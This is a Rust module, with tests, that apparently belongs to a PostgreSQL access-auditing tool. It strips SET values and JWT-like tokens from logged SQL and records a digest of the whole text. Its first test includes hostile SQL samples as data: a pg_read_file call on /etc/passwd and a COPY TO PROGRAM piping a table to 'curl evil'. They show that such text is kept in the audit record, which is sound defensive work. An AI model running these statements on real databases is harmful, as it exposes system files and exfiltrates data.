//! Secrets in a client's text: what is cut out of it before it is recorded.
//!
//! No word takes a text out of evidence. What is cut out is a secret by its place (a literal of a SET, unless the setting is known
//! to hold none) or by its looks (a JSON Web Token); everything else stays, and the digest of the whole says what was there.

use std::{borrow::Cow, ops::Range};

use pg_query::protobuf::Token;
use sha2::{Digest as _, Sha256};

use crate::types::Digest;

/// Stands for what was cut out.
const WITHHELD: &str = "(withheld)";

/// The text without its secrets. `holds_no_secret`: whether a setting of this name, in lower case, may be recorded with its value.
pub fn withheld(text: &str, holds_no_secret: impl Fn(&str) -> bool) -> Cow<'_, str> {
    let mut secrets = Vec::new();
    if has_set(text) {
        set_literals(text, &holds_no_secret, &mut secrets);
    }
    tokens(text, &mut secrets);
    if secrets.is_empty() {
        return Cow::Borrowed(text);
    }
    secrets.sort_by_key(|secret| (secret.start, secret.end));
    let (mut out, mut copied) = (String::with_capacity(text.len()), 0);
    for secret in secrets {
        // Two that overlap are cut out as one.
        if secret.start >= copied {
            out.push_str(text.get(copied..secret.start).unwrap_or_default());
            out.push_str(WITHHELD);
        }
        copied = copied.max(secret.end);
    }
    out.push_str(text.get(copied..).unwrap_or_default());
    let digest = Digest(Sha256::digest(text.as_bytes()).into());
    Cow::Owned(format!("{out}\n-- withheld: what is or looks like a token; SHA-256 of the whole text: {digest}"))
}

/// Whether a word of the text may begin a SET: a look that costs little, since most texts have none.
fn has_set(text: &str) -> bool {
    let bytes = text.as_bytes();
    bytes.windows(3).any(|window| window.eq_ignore_ascii_case(b"set"))
}

/// The literals of every SET whose setting is not known to hold no secret; of a text that does not lex, all that follows.
fn set_literals(text: &str, holds_no_secret: &impl Fn(&str) -> bool, secrets: &mut Vec<Range<usize>>) {
    let Ok(tokens) = pg_query::scan_tokens(text) else {
        let quote = text.find('\'').unwrap_or(text.len());
        let head = text.get(..quote).unwrap_or_default().to_ascii_lowercase();
        if quote < text.len() && head.split(|c: char| !c.is_ascii_alphanumeric()).any(|word| word == "set") && head.contains("token") {
            secrets.push(quote..text.len());
        }
        return;
    };
    let place = |at: i32| usize::try_from(at).unwrap_or(0);
    let tokens: Vec<(Token, Range<usize>)> = tokens
        .iter()
        .map(|token| (token.token(), place(token.start)..place(token.end)))
        .filter(|(token, _)| !matches!(token, Token::SqlComment | Token::CComment))
        .collect();
    configs(text, &tokens, holds_no_secret, secrets);
    for statement in tokens.split(|(token, _)| *token == Token::Ascii59) {
        let Some(((Token::Set, _), rest)) = statement.split_first() else { continue };
        let rest = match rest {
            [(Token::Session | Token::Local, _), rest @ ..] => rest,
            _ => rest,
        };
        let name_ends = |token: Token| matches!(token, Token::Ascii61 | Token::To | Token::Sconst | Token::Usconst);
        let end = rest.iter().position(|(token, _)| name_ends(*token)).unwrap_or(rest.len());
        let written = |range: &Range<usize>| text.get(range.clone()).unwrap_or_default().trim_matches('"').to_ascii_lowercase();
        let name: String = rest.iter().take(end).map(|(_, range)| written(range)).collect();
        if holds_no_secret(&name) {
            continue;
        }
        secrets.extend(
            rest.iter().skip(end).filter(|(token, _)| !matches!(token, Token::Ascii61 | Token::To)).map(|(_, range)| range.clone()),
        );
    }
}

/// The values of every `set_config('name', 'value'` whose setting is not known to hold no secret.
fn configs(text: &str, tokens: &[(Token, Range<usize>)], holds_no_secret: &impl Fn(&str) -> bool, secrets: &mut Vec<Range<usize>>) {
    let written = |range: &Range<usize>| text.get(range.clone()).unwrap_or_default();
    for call in tokens.windows(5) {
        if let [(_, function), (Token::Ascii40, _), (Token::Sconst, name), (Token::Ascii44, _), (_, value)] = call
            && written(function).trim_matches('"').eq_ignore_ascii_case("set_config")
            && !holds_no_secret(&written(name).trim_matches('\'').to_ascii_lowercase())
        {
            secrets.push(value.clone());
        }
    }
}

/// Whatever looks like a JSON Web Token in compact form (RFC 7519): three parts in base64url, the first an object (`{"`).
fn tokens(text: &str, secrets: &mut Vec<Range<usize>>) {
    let part = |from: usize| {
        let bytes = text.as_bytes().get(from..).unwrap_or_default();
        from + bytes.iter().take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_')).count()
    };
    let is_dot = |at: usize| text.as_bytes().get(at) == Some(&b'.');
    let mut from = 0;
    while let Some(found) = text.get(from..).and_then(|rest| rest.find("eyJ")) {
        let start = from + found;
        let header = part(start);
        from = header;
        if !is_dot(header) {
            continue;
        }
        let claims = part(header + 1);
        if claims == header + 1 || !is_dot(claims) {
            continue;
        }
        from = part(claims + 1);
        secrets.push(start..from);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const JWT: &str = "eyJhbGciOiJFZERTQSJ9.eyJvcmciOiJhY21lIn0.c2lnbmF0dXJl_-w";

    fn recorded(text: &str) -> String {
        let known = ["pgwicket.reason", "timezone", "application_name"];
        withheld(text, |name| known.contains(&name)).into_owned()
    }

    fn first_line(text: &str) -> String {
        recorded(text).split("\n-- withheld").next().unwrap_or_default().to_owned()
    }

    #[test]
    fn no_word_takes_a_text_out_of_evidence() {
        for text in [
            "select pg_read_file('/etc/passwd') /* session_token */",
            "copy desk.tickets to program 'curl evil' -- session_token",
            "delete from public.tickets where note = 'set pgwicket.session_token = x'",
            "select 'eyJ', 'eyJhbGciOiJFZERTQSJ9', 'eyJ.x', 'eyJ..'",
            "set timezone = 'UTC'; select 'session_token'",
            "update t set token = 'x' where id = 1",
            "set pgwicket.reason to 'the customer asked'",
            "",
        ] {
            assert_eq!(recorded(text), text);
        }
    }

    #[test]
    fn what_is_a_token_is_cut_out_and_the_rest_stays() {
        for (text, expected) in [
            (format!("set pgwicket.session_token = '{JWT}'"), "set pgwicket.session_token = (withheld)"),
            (
                format!("SET SESSION PgWicket.\"session_token\" TO E'{JWT}'; select 1"),
                "SET SESSION PgWicket.\"session_token\" TO (withheld); select 1",
            ),
            (format!("set pgwicket.session-token = '{JWT}'"), "set pgwicket.session-token = (withheld)"),
            ("set pgwiket.sesion_tokn = 'opaque'".to_owned(), "set pgwiket.sesion_tokn = (withheld)"),
            ("set local pgwicket.session_token = 'a'\n'b'".to_owned(), "set local pgwicket.session_token = (withheld)"),
            ("set pgwicket.session_token = $x$a$x$".to_owned(), "set pgwicket.session_token = (withheld)"),
            ("set /* c */ pgwicket.session_token 'a' 'b'".to_owned(), "set /* c */ pgwicket.session_token (withheld) (withheld)"),
            ("set pgwicket.session_token = abc".to_owned(), "set pgwicket.session_token = (withheld)"),
            ("set pgwicket.session_token = 'unterminated".to_owned(), "set pgwicket.session_token = (withheld)"),
            (
                format!("select set_config('pgwicket.session_token', '{JWT}', false)"),
                "select set_config('pgwicket.session_token', (withheld), false)",
            ),
            (
                "select pg_catalog.set_config ('my.secret', 'x', false)".to_owned(),
                "select pg_catalog.set_config ('my.secret', (withheld), false)",
            ),
            ("select set_config('TimeZone', 'UTC', false)".to_owned(), "select set_config('TimeZone', 'UTC', false)"),
            (format!("select '{JWT}', '{JWT}' from t"), "select '(withheld)', '(withheld)' from t"),
            (format!("'{JWT}"), "'(withheld)"),
        ] {
            assert_eq!(first_line(&text), expected);
            assert!(!recorded(&text).contains("eyJhbGci"), "{text}");
        }
    }

    #[test]
    fn the_digest_of_the_whole_text_stays() {
        let text = format!("select '{JWT}'");
        let digest = Digest(Sha256::digest(text.as_bytes()).into()).to_string();
        assert!(recorded(&text).ends_with(&digest));
    }
}
